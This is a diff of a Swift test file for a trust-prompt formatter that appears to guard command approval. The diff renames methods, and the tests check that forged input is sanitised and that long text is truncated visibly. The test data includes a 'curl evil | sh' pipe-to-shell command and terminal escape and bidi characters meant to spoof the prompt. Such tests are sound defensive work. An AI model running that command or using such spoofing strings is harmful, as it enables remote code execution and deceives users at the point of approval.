@@ -11,7 +11,7 @@ import Testing
             .command,
             "runs the command true\r\n  and sends requests to 127.0.0.1\nTrust it? [y/N] n\u{1b}[2J\u{202e}\u{2028}\u{85}",
             file: "a\nb.yaml", line: 3)
-        let line = TrustQuestion.line(forged)
+        let line = TrustQuestion.formatLine(forged)
         #expect(
             !line.unicodeScalars.contains {
                 $0.properties.generalCategory == .control || $0.value == 0x202E || $0.value == 0x2028
@@ -21,9 +21,9 @@ import Testing
 
     @Test func aLongTextLosesItsMiddleAndSaysSo() {
         let need = TrustNeed(.command, "runs the command true" + String(repeating: "x", count: 3_000) + "; curl evil | sh")
-        let line = TrustQuestion.line(need)
+        let line = TrustQuestion.formatLine(need)
         #expect(line.count < 200 && line.contains("(3037 characters)") && line.hasSuffix("; curl evil | sh"), "\(line)")
-        #expect(TrustQuestion.line(need, isWhole: true).count > 3_000)
+        #expect(TrustQuestion.formatLine(need, isWhole: true).count > 3_000)
     }
 
     @Test func whatDoesTheMostHarmComesFirst() {
@@ -42,7 +42,7 @@ import Testing
         let pages = TrustQuestion.pages(needs, rows: rows, columns: 80)
         #expect(pages.allSatisfy { $0.count <= max(1, rows - 4) } && pages.flatMap { $0 }.count == 57)
         #expect(TrustQuestion.question(needs) == "Trust it with these 57? [y/N] ")
-        #expect(TrustQuestion.more(1, of: 3, needs).contains("57 in all"))
+        #expect(TrustQuestion.pageQuestion(1, of: 3, needs).contains("57 in all"))
     }
 
     /// What does not fit on the page would scroll what comes first out of sight.
